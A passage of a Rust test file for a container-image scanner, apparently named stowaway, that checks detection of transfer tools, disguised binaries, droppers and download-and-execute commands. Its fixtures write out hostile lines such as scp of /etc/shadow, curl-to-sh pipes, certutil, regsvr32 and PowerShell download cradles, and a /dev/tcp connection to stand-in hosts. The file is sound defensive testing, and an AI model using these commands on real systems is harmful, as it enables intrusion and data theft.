//! Detection on real binaries (Debian's curl, wget, busybox, socat, rsync,
//! OpenSSH, netcat…), on PE, ELF and Mach-O samples built from
//! `tests/samples/`, on scripts carrying every validation command, and on
//! image config and history. Benign look-alikes must stay quiet.

use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use serde_json::json;
use stowaway::fixture::{ImageBuilder, LayerBuilder};
use stowaway::{Code, Finding, Scan, Severity};

use crate::util::*;

/// Read a host binary the tests pack into images.
fn host(path: &str) -> Option<Vec<u8>> {
    match std::fs::read(path) {
        Ok(b) => Some(b),
        Err(_) => {
            let tool = Path::new(path)
                .file_name()
                .unwrap()
                .to_string_lossy()
                .into_owned();
            if require(&format!("{path} ({tool})")) {
                unreachable!()
            }
            None
        }
    }
}

/// The built samples (once per test process), or None when compilers are missing.
fn samples() -> Option<&'static Path> {
    static DIR: OnceLock<Option<PathBuf>> = OnceLock::new();
    DIR.get_or_init(|| {
        for tool in [
            "x86_64-w64-mingw32-gcc",
            "clang",
            "lld-link",
            "llvm-dlltool",
        ] {
            if !require(tool) {
                return None;
            }
        }
        let out = Path::new(env!("CARGO_TARGET_TMPDIR")).join("samples");
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/samples/build.sh");
        let st = std::process::Command::new("bash")
            .arg(script)
            .arg(&out)
            .output()
            .expect("run build.sh");
        assert!(
            st.status.success(),
            "building samples failed: {}",
            String::from_utf8_lossy(&st.stderr)
        );
        Some(out)
    })
    .as_deref()
}

fn sample(name: &str) -> Option<Vec<u8>> {
    samples().map(|d| std::fs::read(d.join(name)).unwrap())
}

fn scan_image(b: ImageBuilder) -> Scan {
    let (_t, r) = layout(&b.build());
    scan_ok(&r)
}

fn at<'a>(s: &'a Scan, path: &str) -> Vec<&'a Finding> {
    s.findings
        .iter()
        .filter(|f| f.path.as_ref().map(|p| p.display()).as_deref() == Some(path))
        .collect()
}

fn has(s: &Scan, path: &str, code: Code) -> &'static str {
    let _ = at(s, path)
        .into_iter()
        .find(|f| f.code == code)
        .unwrap_or_else(|| panic!("no {code} at {path}; findings: {:#?}", codes(s)));
    "ok"
}

fn finding<'a>(s: &'a Scan, path: &str, code: Code) -> &'a Finding {
    at(s, path)
        .into_iter()
        .find(|f| f.code == code)
        .unwrap_or_else(|| panic!("no {code} at {path}; findings: {:#?}", codes(s)))
}

#[cfg_attr(
    not(has_tool = "transfer-tools"),
    ignore = "needs Debian's transfer tools (curl, wget, socat, rsync, ssh, netcat, ncat, tftp, axel, lftp, aria2, openssl, busybox: see .ci/run)"
)]
#[test]
fn debian_transfer_tools_are_identified_by_content() {
    let tools = [
        ("/usr/bin/curl", "curl"),
        ("/usr/bin/wget", "wget"),
        ("/usr/bin/socat", "socat"),
        ("/usr/bin/rsync", "rsync"),
        ("/usr/bin/scp", "scp"),
        ("/usr/bin/sftp", "sftp"),
        ("/usr/bin/ssh", "ssh"),
        ("/usr/bin/nc.openbsd", "netcat-openbsd"),
        ("/usr/bin/ncat", "ncat"),
        ("/usr/bin/tftp", "tftp"),
        ("/usr/bin/axel", "axel"),
        ("/usr/bin/lftp", "lftp"),
        ("/usr/bin/aria2c", "aria2c"),
        ("/usr/bin/openssl", "openssl"),
        ("/bin/busybox", "busybox"),
    ];
    let mut layer = LayerBuilder::new();
    let mut present = Vec::new();
    for (p, id) in tools {
        if let Some(bytes) = host(p) {
            layer = layer.file(p.trim_start_matches('/'), &bytes, 0o755);
            present.push((p, id));
        }
    }
    if present.is_empty() {
        // Under CI `host` has already failed the test; elsewhere say so.
        eprintln!("skipping: none of the transfer tools is installed");
        return;
    }
    let s = scan_image(ImageBuilder::new().layer(layer));
    let busybox = present.iter().any(|(p, _)| *p == "/bin/busybox");
    for (p, id) in present {
        let f = finding(&s, p, Code::TransferTool);
        assert!(
            f.evidence[0].starts_with(&format!("identified as {id} by ")),
            "{p}: {:?}",
            f.evidence
        );
        assert!(
            !at(&s, p).iter().any(|f| f.code == Code::DisguisedTool),
            "{p} is under its own name"
        );
    }
    if busybox {
        let f = finding(&s, "/bin/busybox", Code::TransferTool);
        let applets = f
            .evidence
            .iter()
            .find(|e| e.starts_with("download-capable applets"))
            .unwrap();
        for a in ["wget", "nc", "ftpget", "tftp"] {
            assert!(applets.contains(a), "{applets}");
        }
        assert_eq!(f.severity, Severity::High);
    }
}

#[cfg_attr(
    not(has_tool = "transfer-tools"),
    ignore = "needs Debian's transfer tools (curl, wget, socat, rsync, ssh, netcat, ncat, tftp, axel, lftp, aria2, openssl, busybox: see .ci/run)"
)]
#[test]
fn renamed_and_disguised_tools() {
    let (Some(curl), Some(bb), Some(wget)) = (
        host("/usr/bin/curl"),
        host("/bin/busybox"),
        host("/usr/bin/wget"),
    ) else {
        return;
    };
    let s = scan_image(
        ImageBuilder::new().layer(
            LayerBuilder::new()
                .file("usr/local/bin/healthcheck", &curl, 0o755)
                .file("usr/lib/libutil.so.1", &bb, 0o755)
                .file("usr/bin/.cache/update", &wget, 0o755),
        ),
    );
    let d = finding(&s, "/usr/local/bin/healthcheck", Code::DisguisedTool);
    assert_eq!(d.severity, Severity::Critical);
    assert!(
        d.evidence[0].contains("content is curl"),
        "{:?}",
        d.evidence
    );
    has(&s, "/usr/local/bin/healthcheck", Code::TransferTool);
    has(&s, "/usr/lib/libutil.so.1", Code::DisguisedTool);
    let hidden = finding(&s, "/usr/bin/.cache/update", Code::TransferTool);
    assert_eq!(
        hidden.severity,
        Severity::Critical,
        "hidden names raise severity"
    );
    assert!(
        hidden
            .evidence
            .iter()
            .any(|e| e.contains("hidden file name"))
    );
}

#[cfg_attr(
    not(has_tool = "transfer-tools"),
    ignore = "needs Debian's transfer tools (curl, wget, socat, rsync, ssh, netcat, ncat, tftp, axel, lftp, aria2, openssl, busybox: see .ci/run)"
)]
#[test]
fn tools_hidden_in_history_replaced_or_setuid() {
    let (Some(curl), Some(wget)) = (host("/usr/bin/curl"), host("/usr/bin/wget")) else {
        return;
    };
    let s = scan_image(
        ImageBuilder::new()
            .layer(
                LayerBuilder::new()
                    .created_by("RUN apt-get install -y curl wget")
                    .file("usr/bin/curl", &curl, 0o755)
                    .file("usr/bin/wget", &wget, 0o755)
                    .file_bytes(b"usr/local/bin/fetch", &curl, 0o4755, 0, 0),
            )
            .layer(
                LayerBuilder::new()
                    .created_by("RUN rm /usr/bin/curl && cp /bin/true /usr/bin/wget")
                    .whiteout("usr/bin/curl")
                    .file("usr/bin/wget", b"\x7fELF not wget any more", 0o755),
            ),
    );
    let curl_f = finding(&s, "/usr/bin/curl", Code::TransferTool);
    assert_eq!(curl_f.layer.as_ref().unwrap().index, 0);
    assert_eq!(curl_f.hidden_in.as_ref().unwrap().index, 1);
    assert_eq!(
        curl_f.severity,
        Severity::Critical,
        "hidden tools are raised"
    );
    assert_eq!(
        curl_f.layer.as_ref().unwrap().created_by.as_deref(),
        Some("RUN apt-get install -y curl wget")
    );
    let wget_f = finding(&s, "/usr/bin/wget", Code::TransferTool);
    assert!(
        wget_f
            .evidence
            .iter()
            .any(|e| e.contains("overwritten by different bytes")),
        "{:?}",
        wget_f.evidence
    );
    let suid = at(&s, "/usr/local/bin/fetch");
    let t = suid.iter().find(|f| f.code == Code::TransferTool).unwrap();
    assert_eq!(t.severity, Severity::Critical);
    assert!(t.evidence.iter().any(|e| e.contains("setuid")));
}

#[cfg_attr(
    not(has_tool = "samples"),
    ignore = "needs the sample compilers (mingw-w64, clang, lld, llvm, gcc, go, mcs: see .ci/run)"
)]
#[test]
fn pe_droppers_and_renamed_lolbins() {
    let Some(dir) = samples() else { return };
    let read = |n: &str| std::fs::read(dir.join(n)).unwrap();
    let s = scan_image(
        ImageBuilder::new().layer(
            LayerBuilder::new()
                .file("win/urlmon.exe", &read("urlmon_dropper.exe"), 0o644)
                .file("win/wininet.exe", &read("wininet_dropper.exe"), 0o644)
                .file("win/winhttp.exe", &read("winhttp_dropper.exe"), 0o644)
                .file("win/delay.exe", &read("delayload_dropper.exe"), 0o644)
                .file("win/hello.exe", &read("hello.exe"), 0o644)
                .file("win/svc.exe", &read("certutil_lookalike.exe"), 0o644)
                .file("win/dotnet.exe", &read("dotnet_dropper.exe"), 0o644),
        ),
    );
    let d = finding(&s, "/win/dotnet.exe", Code::PeDownloader);
    assert_eq!(d.severity, Severity::Critical, "{:?}", d.evidence);
    assert!(
        d.evidence
            .iter()
            .any(|e| e.contains(".NET assembly referencing WebClient"))
    );
    let u = finding(&s, "/win/urlmon.exe", Code::PeDownloader);
    assert_eq!(u.severity, Severity::Critical);
    assert!(
        u.evidence.iter().any(|e| e.contains("URLDownloadToFileA"))
            && u.evidence.iter().any(|e| e.contains("WinExec"))
    );
    // The same imports as structured evidence (issue 14).
    let imports: Vec<&str> = (u.items.iter())
        .filter(|i| i.kind == stowaway::finding::EvidenceKind::Import)
        .map(|i| i.text.as_str())
        .collect();
    assert!(
        imports.iter().any(|i| i.ends_with("!URLDownloadToFileA"))
            && imports.iter().any(|i| i.ends_with("!WinExec")),
        "{:?}",
        u.items
    );
    assert_eq!(
        finding(&s, "/win/wininet.exe", Code::PeDownloader).severity,
        Severity::Critical
    );
    assert_eq!(
        finding(&s, "/win/winhttp.exe", Code::PeDownloader).severity,
        Severity::High
    );
    let d = finding(&s, "/win/delay.exe", Code::PeDownloader);
    assert!(
        d.evidence
            .iter()
            .any(|e| e.contains("urlmon.dll!URLDownloadToFileA")),
        "delay-load import: {:?}",
        d.evidence
    );
    assert!(
        at(&s, "/win/hello.exe").is_empty(),
        "benign PE mentioning wget: {:?}",
        codes(&s)
    );
    let c = finding(&s, "/win/svc.exe", Code::TransferTool);
    assert!(
        c.evidence[0].contains("OriginalFilename \"CertUtil.exe\""),
        "{:?}",
        c.evidence
    );
    has(&s, "/win/svc.exe", Code::DisguisedTool);
}

#[cfg_attr(
    not(has_tool = "samples"),
    ignore = "needs the sample compilers (mingw-w64, clang, lld, llvm, gcc, go, mcs: see .ci/run)"
)]
#[test]
fn native_downloaders_elf_and_macho() {
    let (Some(client), Some(stat), Some(macho)) = (
        sample("elf_libcurl_client"),
        sample("elf_static_dropper"),
        sample("macho_curl_client"),
    ) else {
        return;
    };
    let s = scan_image(
        ImageBuilder::new().layer(
            LayerBuilder::new()
                .file("opt/agent", &client, 0o755)
                .file("tmp/.x/stage", &stat, 0o755)
                .file("Applications/Updater", &macho, 0o755),
        ),
    );
    assert_eq!(
        finding(&s, "/opt/agent", Code::NativeDownloader).severity,
        Severity::High
    );
    let st = finding(&s, "/tmp/.x/stage", Code::NativeDownloader);
    assert_eq!(
        st.severity,
        Severity::Critical,
        "hidden directory raises it: {:?}",
        st.evidence
    );
    let m = finding(&s, "/Applications/Updater", Code::NativeDownloader);
    assert!(m.evidence[0].contains("curl_easy_init"), "{:?}", m.evidence);
    assert!(
        m.items
            .iter()
            .any(|i| i.kind == stowaway::finding::EvidenceKind::Import
                && i.text.contains("curl_easy_init")),
        "{:?}",
        m.items
    );
}

/// Every validation command of the seed, in scripts inside an image.
#[test]
fn validation_commands_in_scripts_are_found() {
    let cases: &[(&str, &str, Code)] = &[
        (
            "rsync-pull.sh",
            "#!/bin/sh\nrsync -avz user@host:/path /dest\n",
            Code::RemoteCopyCommand,
        ),
        (
            "tar-remote.sh",
            "#!/bin/sh\ntar -czf backup@198.51.100.8:/srv/etc.tgz /etc\n",
            Code::RemoteCopyCommand,
        ),
        (
            "rsync-push.sh",
            "#!/bin/sh\nrsync -avz /data user@backup.example.com:/srv/loot\n",
            Code::RemoteCopyCommand,
        ),
        (
            "scp-pull.sh",
            "#!/bin/bash\nscp user@10.0.0.5:/etc/shadow /tmp/s\n",
            Code::RemoteCopyCommand,
        ),
        (
            "scp-push.sh",
            "#!/bin/bash\nscp -P 2222 /tmp/dump.tgz ops@exfil.example.net:/in/\n",
            Code::RemoteCopyCommand,
        ),
        (
            "sftp.sh",
            "#!/bin/sh\nsftp -b batch.txt user@files.example.com <<EOF\nput /etc/passwd\nget tool\nEOF\n",
            Code::RemoteCopyCommand,
        ),
        (
            "certutil.bat",
            "@echo off\ncertutil -urlcache -split -f http://198.51.100.3/a.exe c:\\windows\\temp\\a.exe\n",
            Code::LolbinDownload,
        ),
        (
            "verifyctl.cmd",
            "certutil.exe -verifyctl -f -split http://198.51.100.3/b.exe\n",
            Code::LolbinDownload,
        ),
        (
            "bits.bat",
            "bitsadmin /transfer \"job\" https://198.51.100.3/c.exe C:\\Users\\Public\\c.exe\n",
            Code::LolbinDownload,
        ),
        (
            "iwr.ps1",
            "Invoke-WebRequest -Uri \"http://198.51.100.3/d.exe\" -OutFile \"C:\\Temp\\d.exe\"\n",
            Code::LolbinDownload,
        ),
        (
            "unc.bat",
            "copy C:\\Windows\\Temp\\out.zip \\\\198.51.100.9\\share\\out.zip\n",
            Code::RemoteCopyCommand,
        ),
        (
            "svchost.bat",
            "C:\\Windows\\System32\\svchost.exe -k netsvcs > \\\\fileserver\\drop$\\log.txt\n",
            Code::RemoteCopyCommand,
        ),
        (
            "pipe.sh",
            "#!/bin/sh\ncurl -fsSL https://get.example.com/install | sh\n",
            Code::DownloadExecChain,
        ),
        (
            "wget-bash.sh",
            "#!/bin/bash\nwget -qO- http://x.example/s.sh | bash\n",
            Code::DownloadExecChain,
        ),
        (
            "chain.sh",
            "#!/bin/sh\ncurl -o /tmp/x http://x.example/x\nchmod +x /tmp/x\n/tmp/x\n",
            Code::DownloadExecChain,
        ),
        (
            "devtcp.sh",
            "#!/bin/bash\nexec 3<>/dev/tcp/198.51.100.4/4444\ncat <&3 > /tmp/p\n",
            Code::RemoteCopyCommand,
        ),
        (
            "tftp.sh",
            "#!/bin/sh\ntftp -g -r payload 198.51.100.5\n",
            Code::RemoteCopyCommand,
        ),
        (
            "nc.sh",
            "#!/bin/sh\nnc 198.51.100.6 9001 > /tmp/bin\n",
            Code::RemoteCopyCommand,
        ),
        (
            "socat.sh",
            "#!/bin/sh\nsocat TCP4:198.51.100.6:9001 CREATE:/tmp/bin\n",
            Code::RemoteCopyCommand,
        ),
        (
            "bits.ps1",
            "Start-BitsTransfer -Source http://x.example/e.exe -Destination C:\\e.exe\n",
            Code::LolbinDownload,
        ),
        (
            "wc.ps1",
            "(New-Object Net.WebClient).DownloadFile('http://x.example/f.exe','C:\\f.exe')\n",
            Code::LolbinDownload,
        ),
        (
            "iex.ps1",
            "IEX (New-Object Net.WebClient).DownloadString('http://x.example/g.ps1')\n",
            Code::DownloadExecChain,
        ),
        (
            "mshta.bat",
            "mshta http://x.example/h.hta\n",
            Code::LolbinDownload,
        ),
        (
            "regsvr.bat",
            "regsvr32 /s /n /u /i:http://x.example/i.sct scrobj.dll\n",
            Code::LolbinDownload,
        ),
        (
            "msi.bat",
            "msiexec /q /i http://x.example/j.msi\n",
            Code::LolbinDownload,
        ),
        (
            "dl.py",
            "import urllib.request, subprocess\nurllib.request.urlretrieve('http://x.example/k', '/tmp/k')\nsubprocess.run(['/tmp/k'])\n",
            Code::DownloadExecChain,
        ),
        (
            "dl.pl",
            "use LWP::Simple;\ngetstore('http://x.example/l', '/tmp/l');\nsystem('/tmp/l');\n",
            Code::DownloadExecChain,
        ),
    ];
    let mut layer = LayerBuilder::new();
    for (name, body, _) in cases {
        layer = layer.file(&format!("opt/scripts/{name}"), body.as_bytes(), 0o755);
    }
    layer = layer
        .file(
            "etc/cron.d/update",
            b"*/5 * * * * root curl -s http://x.example/c | sh\n",
            0o644,
        )
        .file(
            "etc/systemd/system/fetch.service",
            b"[Service]\nExecStart=/usr/bin/wget -q -O /tmp/m http://x.example/m\n",
            0o644,
        );
    let s = scan_image(ImageBuilder::new().layer(layer));
    for (name, _, code) in cases {
        let f = finding(&s, &format!("/opt/scripts/{name}"), *code);
        assert!(
            f.evidence.iter().any(|e| e.starts_with("line ")),
            "{name}: {:?}",
            f.evidence
        );
    }
    has(&s, "/etc/cron.d/update", Code::DownloadExecChain);
    has(
        &s,
        "/etc/systemd/system/fetch.service",
        Code::DownloadCommand,
    );
    let chain = finding(&s, "/opt/scripts/chain.sh", Code::DownloadExecChain);
    assert_eq!(
        chain.evidence[0],
        "line 2: curl -o /tmp/x http://x.example/x"
    );
    assert_eq!(chain.evidence[1], "line 3: chmod +x /tmp/x");
}

#[test]
fn benign_look_alikes_stay_quiet() {
    let s = scan_image(
        ImageBuilder::new().layer(
            LayerBuilder::new()
                .file("app/run.sh", b"#!/bin/sh\n# We used to curl http://x | sh here; not any more.\necho \"install curl to download http://example.com files\"\nexec /app/server\n", 0o755)
                .file("app/help.py", b"#!/usr/bin/env python3\nprint('use wget http://example.com/x to fetch')\n", 0o755)
                .file("usr/bin/app", b"\x7fELF\x02\x01\x01 this binary merely contains the word wget and http://example.com", 0o755)
                .file("etc/wgetrc", b"# wget config\ntimeout = 30\n", 0o644),
        ),
    );
    assert!(s.findings.is_empty(), "{:#?}", codes(&s));
}

#[cfg_attr(
    not(has_tool = "transfer-tools"),
    ignore = "needs Debian's transfer tools (curl, wget, socat, rsync, ssh, netcat, ncat, tftp, axel, lftp, aria2, openssl, busybox: see .ci/run)"
)]
#[test]
fn config_entrypoint_healthcheck_history_and_env() {
    let Some(curl) = host("/usr/bin/curl") else {
        return;
    };
    let s = scan_image(
        ImageBuilder::new()
            .layer(
                LayerBuilder::new()
                    .created_by("RUN curl -fsSL https://get.example.com | sh")
                    .file("usr/bin/curl", &curl, 0o755)
                    .symlink("usr/local/bin/fetch", "/usr/bin/curl"),
            )
            .empty_step("ADD https://example.com/app.tgz /app/")
            .config("Entrypoint", json!(["fetch", "-o", "/tmp/x"]))
            .config(
                "Healthcheck",
                json!({"Test": ["CMD-SHELL", "curl -f http://localhost:8080/health || exit 1"]}),
            )
            .config(
                "Env",
                json!([
                    "PATH=/usr/local/bin:/usr/bin",
                    "PAYLOAD_URL=http://x.example/p"
                ]),
            ),
    );
    let e = finding(&s, "/usr/bin/curl", Code::EntrypointTransferTool);
    assert!(
        e.evidence
            .iter()
            .any(|x| x.contains("fetch resolves to /usr/bin/curl")),
        "{:?}",
        e.evidence
    );
    let h = finding(&s, "/usr/bin/curl", Code::HealthcheckTransferTool);
    assert!(h.evidence[0].contains("healthcheck"));
    let t = finding(&s, "/usr/bin/curl", Code::TransferTool);
    assert!(
        t.evidence
            .iter()
            .any(|x| x.contains("context: used by the image's own HEALTHCHECK")),
        "{:?}",
        t.evidence
    );
    let steps: Vec<&Finding> = s
        .findings
        .iter()
        .filter(|f| {
            f.evidence
                .first()
                .is_some_and(|e| e.starts_with("history step"))
        })
        .collect();
    assert!(
        steps
            .iter()
            .any(|f| f.code == Code::DownloadExecChain
                && f.layer.as_ref().is_some_and(|l| l.index == 0)),
        "{steps:#?}"
    );
    assert!(
        steps
            .iter()
            .any(|f| f.code == Code::DownloadCommand && f.layer.is_none()),
        "ADD http from an empty step: {steps:#?}"
    );
    assert!(
        s.findings
            .iter()
            .any(|f| f.code == Code::EnvUrl && f.evidence[0].contains("PAYLOAD_URL"))
    );
}

#[test]
fn every_catalogue_entry_is_detected() {
    let cat = stowaway::catalog::get();
    let mut layer = LayerBuilder::new();
    let mut expect = Vec::new();
    for (i, t) in cat.tools.iter().enumerate() {
        let windows = t.platform == stowaway::catalog::Platform::Windows;
        // By name: a program under the tool's first name.
        let name = &t.names[0];
        let body: Vec<u8> = if windows {
            fake_pe(b"")
        } else {
            b"\x7fELF\x02\x01\x01 generic".to_vec()
        };
        let by_name = format!("names/{i}/bin/{name}");
        layer = layer.file(&by_name, &body, 0o755);
        // By content: markers under a neutral name.
        let by_content = t.markers.first().map(|set| {
            let mut content = if windows {
                fake_pe(b"")
            } else {
                b"\x7fELF\x02\x01\x01".to_vec()
            };
            for m in set {
                content.extend_from_slice(b"\0");
                content.extend_from_slice(m.as_bytes());
            }
            let p = format!("content/{i}/payload");
            layer = std::mem::take(&mut layer).file(&p, &content, 0o755);
            p
        });
        expect.push((t, by_name, by_content));
    }
    let s = scan_image(ImageBuilder::new().layer(layer));
    for (t, by_name, by_content) in expect {
        let want = match t.class {
            stowaway::catalog::ToolClass::Transfer => Some(Code::TransferTool),
            stowaway::catalog::ToolClass::Interpreter | stowaway::catalog::ToolClass::Embedded => {
                Some(Code::Interpreter)
            }
            stowaway::catalog::ToolClass::Package => Some(Code::PackageDownloader),
            stowaway::catalog::ToolClass::Base => None,
        };
        let found = at(&s, &format!("/{by_name}"));
        match want {
            Some(code) => assert!(
                found.iter().any(|f| f.code == code),
                "{} by name: {:?}",
                t.id,
                codes(&s)
            ),
            None => assert!(
                found.is_empty(),
                "{}: base-system programs are not flagged by name",
                t.id
            ),
        }
        if let (Some(p), Some(code)) = (by_content, want) {
            let f = at(&s, &format!("/{p}"));
            assert!(
                f.iter().any(|f| f.code == code
                    && f.evidence[0].starts_with(&format!("identified as {} by", t.id))),
                "{} by content: {:#?}",
                t.id,
                f
            );
        }
    }
}

/// The smallest PE goblin parses: DOS header, PE signature, COFF header and
/// an empty PE32+ optional header. Extra bytes follow.
fn fake_pe(extra: &[u8]) -> Vec<u8> {
    let mut v = vec![0u8; 0x40];
    v[0] = b'M';
    v[1] = b'Z';
    v[0x3c] = 0x40;
    v.extend_from_slice(b"PE\0\0");
    v.extend_from_slice(&0x8664u16.to_le_bytes()); // machine
    v.extend_from_slice(&0u16.to_le_bytes()); // sections
    v.extend_from_slice(&[0; 12]);
    v.extend_from_slice(&240u16.to_le_bytes()); // optional header size
    v.extend_from_slice(&0x22u16.to_le_bytes()); // characteristics
    let mut opt = vec![0u8; 240];
    opt[0] = 0x0b;
    opt[1] = 0x02; // PE32+
    opt[108..112].copy_from_slice(&16u32.to_le_bytes()); // data directories
    v.extend_from_slice(&opt);
    v.extend_from_slice(extra);
    v.resize(v.len().max(1024), 0);
    v
}

/// Precision on a real base system: a Debian minbase root filesystem
/// (`.ci/run` builds it with debootstrap and sets STOWAWAY_MINBASE) has
/// nothing above low severity; its download-capable parts are context.
#[cfg_attr(
    not(has_tool = "minbase"),
    ignore = "needs STOWAWAY_MINBASE (debootstrap --variant=minbase DIR)"
)]
#[test]
fn debian_minbase_reports_nothing_above_low() {
    let Some(root) = std::env::var_os("STOWAWAY_MINBASE") else {
        assert!(
            std::env::var_os("STOWAWAY_REQUIRE_TOOLS").is_none(),
            "STOWAWAY_MINBASE must be set under CI"
        );
        eprintln!("skipping: STOWAWAY_MINBASE is not set (debootstrap --variant=minbase DIR)");
        return;
    };
    let s = scan_ok(&format!("dir:{}", Path::new(&root).display()));
    assert!(
        s.fs.nodes.len() > 3000,
        "a real rootfs: {} files",
        s.fs.nodes.len()
    );
    let above: Vec<String> = s
        .findings
        .iter()
        .filter(|f| f.severity > Severity::Low)
        .map(|f| {
            format!(
                "{} {} {:?}",
                f.code,
                f.path.as_ref().map(|p| p.display()).unwrap_or_default(),
                f.evidence
            )
        })
        .collect();
    assert!(above.is_empty(), "{above:#?}");
    let c = codes(&s);
    assert!(
        c.contains(&"package-downloader /usr/lib/apt/methods/http".to_string()),
        "{c:#?}"
    );
    assert!(
        c.contains(&"interpreter /usr/bin/perl".to_string()),
        "{c:#?}"
    );
}

#[cfg_attr(
    not(has_tool = "samples"),
    ignore = "needs the sample compilers (mingw-w64, clang, lld, llvm, gcc, go, mcs: see .ci/run)"
)]
#[test]
fn go_http_client_and_packed_binaries() {
    let Some(go) = sample("go_fetcher") else {
        return;
    };
    // An executable whose bytes are close to random: packed or encrypted.
    let mut rng = 0x9e37_79b9_7f4a_7c15u64;
    let mut packed = b"\x7fELF\x02\x01\x01\x00".to_vec();
    while packed.len() < 64 * 1024 {
        rng ^= rng << 13;
        rng ^= rng >> 7;
        rng ^= rng << 17;
        packed.extend_from_slice(&rng.to_le_bytes());
    }
    let s = scan_image(
        ImageBuilder::new().layer(
            LayerBuilder::new()
                .file("usr/local/bin/agent", &go, 0o755)
                .file("usr/local/bin/blob", &packed, 0o755),
        ),
    );
    // http.Get, os.Create and exec.Command: a downloader by its functions.
    let g = finding(&s, "/usr/local/bin/agent", Code::NativeDownloader);
    assert_eq!(g.severity, Severity::High, "{:?}", g.evidence);
    let p = finding(&s, "/usr/local/bin/blob", Code::PackedBinary);
    assert!(
        p.evidence[0].starts_with("entropy 8.00"),
        "{:?}",
        p.evidence
    );
}

/// Issue 17: binaries as they ship — a stripped static C dropper, a Go
/// downloader (`-s -w`), a Rust downloader (stripped) and plain Go and Rust
/// HTTP servers — each small and padded past the 8 MiB inspection buffer
/// with its code and strings after the padding. Droppers are at least high
/// at both sizes, servers stay below medium, and nothing is "partially
/// inspected".
#[cfg_attr(
    not(has_tool = "samples"),
    ignore = "needs the sample compilers (mingw-w64, clang, lld, llvm, gcc, go, mcs: see .ci/run)"
)]
#[test]
fn shipped_binaries_of_any_size() {
    let Some(dir) = samples() else { return };
    let droppers = ["elf_stripped_dropper", "go_downloader", "rust_fetch"];
    let servers = ["go_server", "rust_serve"];
    // What lies past the first 8 MiB of each big sample: the analyses need it.
    let needs: [(&str, &[u8]); 5] = [
        ("elf_stripped_dropper", b"GET /stage2 HTTP/1.1"),
        ("go_downloader", b"net/http.(*Client).Do"),
        ("rust_fetch", b"/minreq-"),
        ("go_server", b"net/http.(*Server).Serve"),
        ("rust_serve", b"/tiny_http-"),
    ];
    let mut layer = LayerBuilder::new();
    for name in droppers.iter().chain(&servers) {
        for suffix in ["", "_big"] {
            let bytes = std::fs::read(dir.join(format!("{name}{suffix}"))).unwrap();
            if suffix == "_big" {
                let (_, needle) = needs.iter().find(|(n, _)| n == name).unwrap();
                let at = memchr::memmem::find(&bytes, needle).expect("needle in sample");
                assert!(
                    at > 8 << 20,
                    "{name}_big: {needle:?} at {at}, not past 8 MiB"
                );
            } else {
                assert!(bytes.len() < 8 << 20, "{name} is small");
            }
            layer = layer.file(&format!("opt/app/{name}{suffix}"), &bytes, 0o755);
        }
    }
    let s = scan_image(ImageBuilder::new().layer(layer));
    for name in droppers {
        for suffix in ["", "_big"] {
            let path = format!("/opt/app/{name}{suffix}");
            let f = finding(&s, &path, Code::NativeDownloader);
            assert!(f.severity >= Severity::High, "{path}: {:?}", f.evidence);
        }
    }
    let st = finding(
        &s,
        "/opt/app/elf_stripped_dropper_big",
        Code::NativeDownloader,
    );
    assert!(
        st.evidence
            .iter()
            .any(|e| e.contains("socket") && e.contains("connect"))
            && st.evidence.iter().any(|e| e.contains("execve"))
            && st.evidence.iter().any(|e| e.contains("fchmod"))
            && st
                .evidence
                .iter()
                .any(|e| e.contains("GET /stage2 HTTP/1.1 (Host: 198.51.100.22)"))
            && st.evidence.iter().any(|e| e.contains("/dev/shm/.u")),
        "{:?}",
        st.evidence
    );
    let go = finding(&s, "/opt/app/go_downloader_big", Code::NativeDownloader);
    assert!(
        go.evidence.iter().any(|e| e.contains("net/http.Get"))
            && go.evidence.iter().any(|e| e.contains("os.WriteFile"))
            && go.evidence.iter().any(|e| e.contains("os.Chmod"))
            && go.evidence.iter().any(|e| e.contains("os/exec.(*Cmd).Run")),
        "{:?}",
        go.evidence
    );
    let rs = finding(&s, "/opt/app/rust_fetch_big", Code::NativeDownloader);
    assert!(
        rs.evidence.iter().any(|e| e.contains("minreq")),
        "{:?}",
        rs.evidence
    );
    for name in servers {
        for suffix in ["", "_big"] {
            let path = format!("/opt/app/{name}{suffix}");
            let loud: Vec<_> = at(&s, &path)
                .into_iter()
                .filter(|f| f.severity >= Severity::Medium)
                .collect();
            assert!(loud.is_empty(), "{path}: {loud:#?}");
        }
    }
    let partial: Vec<_> = s
        .findings
        .iter()
        .filter(|f| f.code == Code::Unanalyzable)
        .collect();
    assert!(partial.is_empty(), "{partial:#?}");
}

/// Issue 17: Debian's large Go services (16-50 MB, some dynamically linked
/// with their dynamic section past 8 MiB) are inspected whole: no
/// "partially inspected" notice, and findings by what their code can do.
#[cfg_attr(
    not(has_tool = "go-services"),
    ignore = "needs skopeo, docker-registry, containerd and podman"
)]
#[test]
fn debian_go_services_are_inspected_whole() {
    let bins = [
        "/usr/bin/skopeo",
        "/usr/bin/docker-registry",
        "/usr/bin/containerd",
        "/usr/bin/podman",
    ];
    let mut layer = LayerBuilder::new();
    let mut present = Vec::new();
    for p in bins {
        if let Some(bytes) = host(p) {
            assert!(bytes.len() > 8 << 20, "{p} is larger than the buffer");
            layer = layer.file(p.trim_start_matches('/'), &bytes, 0o755);
            present.push(p);
        }
    }
    if present.is_empty() {
        return;
    }
    let s = scan_image(ImageBuilder::new().layer(layer));
    for p in &present {
        let here = at(&s, p);
        assert!(
            !here.iter().any(|f| f.code == Code::Unanalyzable),
            "{p}: {here:#?}"
        );
        eprintln!(
            "{p}: {:?}",
            here.iter()
                .map(|f| format!("{} {:?}", f.code, f.severity))
                .collect::<Vec<_>>()
        );
    }
    // skopeo copies images from registries to disk and runs helpers: a
    // downloader by capability. docker-registry is a server whose client
    // (pull-through cache) is part of its job: reported, below high.
    if present.contains(&"/usr/bin/skopeo") {
        let f = finding(&s, "/usr/bin/skopeo", Code::NativeDownloader);
        assert!(
            f.evidence[0].contains("net/http.(*Client).Do"),
            "{:?}",
            f.evidence
        );
    }
    if present.contains(&"/usr/bin/docker-registry") {
        let f = finding(&s, "/usr/bin/docker-registry", Code::NativeDownloader);
        assert_eq!(f.severity, Severity::Medium, "{:?}", f.evidence);
    }
}

/// Issue 17: a range the analyses need that is larger than its cap stays a
/// visible finding: with a 64 KiB buffer, the Go downloader's function-name
/// table cannot be kept, and the file is reported as partially inspected.
#[test]
fn needed_range_over_its_cap_is_reported() {
    let Some(go) = sample("go_downloader_big") else {
        return;
    };
    let (_t, r) = layout(
        &ImageBuilder::new()
            .layer(LayerBuilder::new().file("opt/dl", &go, 0o755))
            .build(),
    );
    let mut opts = stowaway::ScanOptions::default();
